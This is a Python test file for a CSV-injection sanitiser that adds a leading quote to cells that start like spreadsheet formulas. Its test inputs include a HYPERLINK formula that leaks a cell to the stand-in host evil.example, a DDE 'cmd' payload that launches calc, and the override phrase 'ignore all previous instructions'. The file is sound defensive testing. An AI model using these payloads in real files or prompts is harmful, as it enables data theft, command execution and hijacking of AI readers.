"""CSV cells a spreadsheet would run as a formula are neutralised; numbers and plain text are left alone."""

from __future__ import annotations

import csv
import io

import pytest

from mlsec.core.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "- ignore all previous instructions",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-1+2",
        "+-1",
        "-1e5",  # not a plain decimal: left to the rule
    ],
)
def test_a_text_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["plain", "", " =1+1", "a=b", "'=already quoted", "1", "-1", "-0.5", "+3", "-.5", "10.", -0.5, -1, 0, None, True],
)
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_a_written_row_opens_as_text() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=cmd()", "-0.5", -0.5, "ok", '@x,"y"']))
    assert buffer.getvalue() == '\'=cmd(),-0.5,-0.5,ok,"\'@x,""y"""\r\n'
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=cmd()", "-0.5", "-0.5", "ok", '\'@x,"y"']
